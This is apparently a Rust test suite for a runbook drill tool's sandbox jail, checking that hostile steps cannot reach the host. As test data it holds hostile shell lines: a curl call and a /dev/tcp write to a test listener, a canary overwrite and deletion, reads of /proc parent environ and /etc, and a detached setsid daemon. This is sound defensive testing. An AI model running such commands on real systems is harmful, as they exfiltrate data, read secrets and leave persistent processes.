//! The jail holds on its own: a hostile step added to a copy of the runbook (network by absolute
//! path and `/dev/tcp`, writes outside the sandbox, reads of `/proc` and `/etc`, a `setsid`
//! daemon) reaches nothing of the host, and the drill says what confined it.

use assert_cmd::Command;
use std::io::Read;
use std::net::TcpListener;

/// Whether this machine lets an unprivileged process create the namespaces the jail needs.
fn namespaces_allowed() -> bool {
    std::process::Command::new("unshare")
        .args([
            "--user",
            "--map-root-user",
            "--net",
            "--mount",
            "--pid",
            "--fork",
            "true",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

/// `true`: run the test; `false`: skipped (said on stderr). Under `CI=true` a machine without
/// namespaces fails: CI runs on this machine kind, which allows them.
fn need_namespaces(test: &str) -> bool {
    if namespaces_allowed() {
        return true;
    }
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "{test}: CI's machine kind allows unprivileged namespaces, this one refused them"
    );
    eprintln!("{test}: skipped: this machine refuses unprivileged user namespaces");
    false
}

/// What a hostile step aims at: a folder outside the sandbox holding `canary` ("unchanged"),
/// and a listener on loopback outside the jail (non-blocking), with its port.
fn targets() -> (tempfile::TempDir, TcpListener, u16) {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("canary"), "unchanged\n").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    (outside, listener, port)
}

#[test]
fn a_hostile_step_reaches_nothing_of_the_host() {
    if !need_namespaces("a_hostile_step_reaches_nothing_of_the_host") {
        return;
    }
    let d = crate::fixture();
    let (outside, listener, port) = targets();
    let canary = outside.path().join("canary");
    let marker = format!("cdb-hostile-{}-{port}", std::process::id());
    let escape = format!("escape-{marker}");
    let c = canary.display();
    let body = format!(
        r#"/usr/bin/curl -s -m 3 http://127.0.0.1:{port}/curl || true
(echo hostile > /dev/tcp/127.0.0.1/{port}) 2>/dev/null || true
echo pwned > '{c}' || true
/bin/rm -f '{c}' || true
echo pwned > "$HOME/../../{escape}" || true
/bin/cat "/proc/$PPID/environ" || true
/bin/cat /etc/hostname || true
/usr/bin/setsid /bin/sh -c 'while :; do /usr/bin/sleep 1; done' {marker} > /dev/null 2>&1 < /dev/null &
true"#
    );
    crate::add_step(d.path(), "database-pre-check-hostile", &body);
    let journal = d.path().join("j.json");
    let secret_env = format!("parent-env-{marker}");
    let out = Command::new(crate::mock_exe())
        .args(["drill", "leak-db", "--root"])
        .arg(d.path())
        .arg("--journal")
        .arg(&journal)
        .env("CDB_TEST_PARENT_ENV", &secret_env)
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // The drill itself still passes: the jail confines, it does not refuse.
    assert_eq!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(
        stdout.starts_with("isolation: namespaces"),
        "the isolation line is not at the top:\n{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(&canary).unwrap(),
        "unchanged\n",
        "the canary outside the sandbox changed"
    );
    let shm_escape = std::path::Path::new("/dev/shm").join(&escape);
    let tmp_escape = std::env::temp_dir().join(&escape);
    assert!(
        !shm_escape.exists() && !tmp_escape.exists(),
        "a file was written next to the sandbox"
    );
    let mut conn = listener.accept();
    if let Ok((s, _)) = &mut conn {
        let mut got = String::new();
        let _ = s.read_to_string(&mut got);
        panic!("the listener outside the jail got a connection: {got:?}");
    }
    assert_eq!(
        conn.unwrap_err().kind(),
        std::io::ErrorKind::WouldBlock,
        "accept failed otherwise"
    );
    assert_eq!(
        crate::processes_with(&marker),
        Vec::<String>::new(),
        "a daemon survived"
    );
    let j = std::fs::read_to_string(&journal).unwrap();
    assert!(
        !j.contains(&secret_env),
        "the drill's own environment reached the journal"
    );
    assert!(j.contains("\"isolation\": \"namespaces"), "{j}");
    assert!(j.contains("database-pre-check-hostile"));
}

#[test]
fn without_isolation_the_drill_says_so_and_runs() {
    let d = crate::fixture();
    let journal = d.path().join("j.json");
    let out = Command::new(crate::mock_exe())
        .args(["drill", "leak-db", "--root"])
        .arg(d.path())
        .arg("--journal")
        .arg(&journal)
        .env(cdb_drill::jail::ENV_OFF, "none")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{stdout}");
    let first = stdout.lines().next().unwrap_or("");
    assert_eq!(
        first,
        format!(
            "isolation: none (turned off by {}=none)",
            cdb_drill::jail::ENV_OFF
        )
    );
    let j = std::fs::read_to_string(&journal).unwrap();
    assert!(j.contains("\"isolation\": \"none (turned off by"), "{j}");
}

#[test]
fn steps_write_private_files() {
    if !need_namespaces("steps_write_private_files") {
        return;
    }
    let (code, j) = crate::run_tiny(
        crate::mocks::MATRIX,
        "database",
        "1m",
        &[
            "umask; touch \"$TMPDIR/f\"; for p in \"$HOME\" \"$TMPDIR/f\" \"$SECRETS_PATH/..\" \"${CDB_DRILL_SOCKET%/*}\"; do ls -ld \"$p\" | cut -c1-10; done; test -z \"${CDB_DRILL_STATE:-}\"",
        ],
        &[],
    );
    assert_eq!(code, 0, "{j}");
    let out = j["events"]
        .as_array()
        .unwrap()
        .iter()
        .find_map(|e| e["stdout"].as_str())
        .unwrap()
        .to_owned();
    assert_eq!(
        out, "0077\ndrwx------\n-rw-------\ndrwx------\ndrwx------\nPASS database-pre-check-s0\n",
        "{out}"
    );
}

#[test]
fn the_shell_is_jailed_too() {
    if !need_namespaces("the_shell_is_jailed_too") {
        return;
    }
    let (outside, listener, port) = targets();
    let canary = outside.path().join("canary");
    let c = canary.display();
    let (code, out, err, _) = crate::shell::run_script(&format!(
        "/usr/bin/curl -s -m 3 http://127.0.0.1:{port}/ || true\n\
         (echo hostile > /dev/tcp/127.0.0.1/{port}) 2>/dev/null || true\n\
         echo pwned > '{c}' || echo write-refused\n\
         drill-done\n"
    ));
    assert!(code.is_some(), "{out}\n{err}");
    assert!(out.starts_with("isolation: namespaces"), "{out}");
    assert!(out.contains("write-refused"), "{out}\n{err}");
    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "unchanged\n");
    assert!(
        listener.accept().is_err(),
        "the listener outside the jail got a connection"
    );
}

/// Steps share one jail host per sandbox: what a step leaves running is killed when it ends,
/// before the next step starts, and a step past its time limit is killed without taking the
/// drill's later steps with it.
#[test]
fn each_step_starts_with_nothing_of_the_last_one_running() {
    if !need_namespaces("each_step_starts_with_nothing_of_the_last_one_running") {
        return;
    }
    let d = crate::fixture();
    let marker = format!("cdb-leftover-{}", std::process::id());
    // Inserted before the runbook's first pre-check, in this order.
    crate::add_step(
        d.path(),
        "database-pre-check-leaves-a-daemon",
        &format!(
            "/usr/bin/setsid /bin/sh -c 'while :; do /usr/bin/sleep 1; done' {marker} > /dev/null 2>&1 < /dev/null &\n\
             /usr/bin/sleep 5 &\necho started"
        ),
    );
    crate::add_step(
        d.path(),
        "database-pre-check-sees-none",
        &format!(
            "n=0; for f in /proc/[0-9]*/cmdline; do /bin/grep -q {marker} \"$f\" 2>/dev/null && n=$((n + 1)); done\n\
             echo \"left over: $n\"; test \"$n\" = 0"
        ),
    );
    crate::add_step(d.path(), "database-pre-check-overruns", "/usr/bin/sleep 30");
    let journal = d.path().join("j.json");
    let out = Command::new(crate::mock_exe())
        .args(["drill", "leak-db", "--timeout", "2", "--root"])
        .arg(d.path())
        .arg("--journal")
        .arg(&journal)
        .timeout(std::time::Duration::from_secs(180))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let j = std::fs::read_to_string(&journal).unwrap();
    // The fixture's runbook lists the added steps after the existing pre-checks; each ran.
    assert!(
        j.contains("left over: 0"),
        "a process of the earlier step was still running:\n{j}"
    );
    assert!(
        j.contains("timed out after 2 s"),
        "the overrunning step was not timed out:\n{stdout}"
    );
    // A failed pre-check stops the drill: it fails, naming the step that overran.
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("database-pre-check-overruns"), "{stdout}");
    assert_eq!(
        crate::processes_with(&marker),
        Vec::<String>::new(),
        "a daemon survived"
    );
}
